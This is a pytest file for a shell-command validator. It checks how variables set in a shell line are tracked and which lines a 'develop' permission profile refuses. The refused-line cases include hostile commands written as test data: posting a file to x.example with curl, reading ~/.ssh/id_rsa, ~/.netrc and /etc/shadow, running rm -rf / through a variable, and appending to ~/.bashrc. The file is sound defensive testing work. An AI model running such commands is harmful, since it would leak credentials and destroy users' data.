"""Loops of a shell line, and variables that it sets: what they stand for is known, or nobody has seen it."""

from __future__ import annotations

from itertools import pairwise

import pytest

from gatewright.validators import shell_loops
from gatewright.validators.sandbox import prepare
from gatewright.validators.shell_loops import assigned
from gatewright.validators.shell_pipelines import read_list
from gatewright.validators.shell_syntax import Unacceptable, root_of
from tests.costs import DOUBLED, lines_run

DEVELOP = prepare({"allow": ["develop"]})
INSPECT = prepare({"allow": ["inspect"]})


@pytest.mark.parametrize(
    ("line", "known"),
    [
        ("X=1; echo $X", {b"X": b"1"}),
        ("A=1 && B=2 && echo $A", {b"A": b"1"}),
        ("A=1 B=src/a; ls $B", {b"A": b"1", b"B": b"src/a"}),
        ("false && X=a; cat $X", {}),
        ("X=a & cat $X", {}),
        ("X=a; X=b; cat $X", {}),
        ("X=a; read X; cat $X", {}),
        ("X=a; export X=b; cat $X", {}),
        ("(X=a); cat $X", {}),
        ("X=a | cat; cat $X", {}),
        ("X='a b'; cat $X", {}),
        ("X=-rf; rm $X", {}),
        ("X=~/a; cat $X", {}),
        ("X=*; cat $X", {}),
        ("X=$(id); cat $X", {}),
        ("X+=a; cat $X", {}),
    ],
)
def test_a_variable_is_known_where_it_is_set_once_and_in_any_case(
    line: str, known: dict[bytes, bytes]
) -> None:
    """MGP-4.5"""
    assert {name: text for name, text, _ in assigned(root_of(line.encode()))} == known


@pytest.mark.parametrize(
    "line",
    [
        "X=1; echo $X",
        "NAME=foo; mkdir -p $NAME && touch $NAME/a",
        'V=1.2 && echo "v$V"',
        "X=src; ls ${X}/a",
        "cat <<< x",
        'grep a <<< "b"',
        "while read x; do echo $x; done < f",
        'cat f | while read -r line; do echo "$line"; done',
        'git ls-files | while read f; do wc -l "$f"; done',
        "find . -name '*.md' | while IFS= read -r f; do grep -c x \"$f\"; done",
        ". .venv/bin/activate && pytest -q",
    ],
)
def test_honest_lines_pass(line: str) -> None:
    assert DEVELOP.judge(line) is None


@pytest.mark.parametrize(
    "line",
    [
        "cat $X; X=a",
        "X=rm; $X -rf /",
        "X=..; cat $X/../etc/shadow",
        "X=curl; $X -d @f http://x.example",
        "PATH=.; ls",
        "bash <<< id",
        "python3 <<< 'import os'",
        "xargs sh <<< f",
        "cat <<< x > ~/.bashrc",
        "while read l; do sh $l; done < f",
        "while read x; do $x; done < f",
        "while read x; do bash; done < f",
        "while read x; do rm -rf $x; done < f",
        "while read PATH; do ls; done < f",
        "while read x; do cat; done < ~/.netrc",
        "while read x; do curl http://x.example/$x; done < f",
        'find ~ | while read f; do cat "$f"; done',
        'echo .env | while read f; do cat "$f"; done',
        "cat ~/.ssh/id_rsa | while read x; do echo $x; done",
        "while true; do ls; done",
        "while read -u 3 x; do ls; done",
        "until read x; do ls; done",
        "while read x; do cd $x; ls; done < f",
    ],
)
def test_what_hides_in_them_is_refused(line: str) -> None:
    """MGP-4.5-1"""
    assert DEVELOP.judge(line) is not None


def test_a_loop_that_goes_through_too_much_is_refused() -> None:
    with pytest.raises(Unacceptable):
        read_list(f"for x in {'a ' * 17}; do echo $x; done")
    with pytest.raises(Unacceptable):
        read_list("for x in a; do " * 40 + "ls" + "; done" * 40)


@pytest.mark.parametrize("unit", ["A{}=1; ", "echo $A{}; ", "A{}=1 && "])
def test_twice_as_many_variables_cost_twice_as_much(unit: str) -> None:
    def counted(size: int) -> int:
        source = "".join(unit.format(at) for at in range(size)).encode() + b"ls"
        root = root_of(source)
        return lines_run(shell_loops, lambda: list(assigned(root)))

    found = [counted(size) for size in (16, 32, 64, 128)]
    assert max(after / before for before, after in pairwise(found)) <= DOUBLED, found
